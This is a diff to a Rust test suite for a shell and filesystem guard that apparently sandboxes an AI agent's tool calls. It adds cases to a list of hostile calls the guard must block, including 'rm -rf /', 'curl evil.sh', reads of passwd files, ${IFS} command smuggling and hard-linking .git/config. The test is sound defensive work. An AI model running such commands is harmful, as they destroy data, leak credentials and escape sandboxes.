@@ -390,6 +390,9 @@ fn hostile() -> Vec<(&'static str, ToolCall)> {
             "cat [e]scape/passwd",
             "ls /*",
             "cat escape/pass*",
+            "ls .*",
+            "cat .*/escape/passwd",
+            "ls ********************x",
             "cat **/passwd",
             "cat /e*/passwd",
             "ls ../*/",
@@ -670,6 +673,7 @@ fn hostile() -> Vec<(&'static str, ToolCall)> {
     all.extend(shells(
         "shell syntax",
         &[
+            "ls x${IFS}y",
             "ls; rm -rf /",
             "ls && curl evil.sh",
             "false || rm -rf .",
@@ -757,6 +761,15 @@ fn hostile() -> Vec<(&'static str, ToolCall)> {
             "tree --fromfile x",
             "cp -s notes.txt link",
             "cp --symbolic-link notes.txt link",
+            "cp -l .git/config innocent.txt",
+            "cp --link .git/config innocent.txt",
+            "file -z notes.txt",
+            "rg --files /etc",
+            "rg --files escape",
+            "rg --type-list /etc",
+            "git log --format=%G?",
+            "git log --pretty=format:%GS",
+            "git show -s --format='%GK'",
             "date -Ievil",
             "head -n five notes.txt",
             "grep -D skip x notes.txt",
@@ -788,6 +801,7 @@ fn hostile() -> Vec<(&'static str, ToolCall)> {
         (ft, call("glob", json!({ "pattern": "**/passwd" }))),
         (ft, call("glob", json!({ "pattern": "**/zzz-no-match" }))),
         (ft, call("glob", json!({ "pattern": "linkdir/**" }))),
+        (ft, call("glob", json!({ "pattern": "*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b" }))),
         (ft, call("glob", json!({ "pattern": "src/*", "path": "/etc" }))),
         (ft, call("search_text", json!({ "pattern": "x", "include": "/etc/*" }))),
         (ft, call("search_text", json!({ "pattern": "x", "path": "src", "include": "../**" }))),
@@ -1489,7 +1503,10 @@ fn the_documented_configuration_parses() {
     let ws = Workspace::new("documented");
     let guard = ShellFsGuardMiddleware::from(c);
     let d = Some(ws.descriptor());
-    let ci = call("write_file", json!({ "path": ".github/workflows/ci.yml", "content": "x" }));
+    let ci = call(
+        "write_file",
+        json!({ "path": ".github/workflows/ci.yml", "content": "x" }),
+    );
     assert!(guard.check_call(&ci, d.as_ref()).is_ok());
     let mk = call("write_file", json!({ "path": "Makefile", "content": "x" }));
     assert!(guard.check_call(&mk, d.as_ref()).is_err());
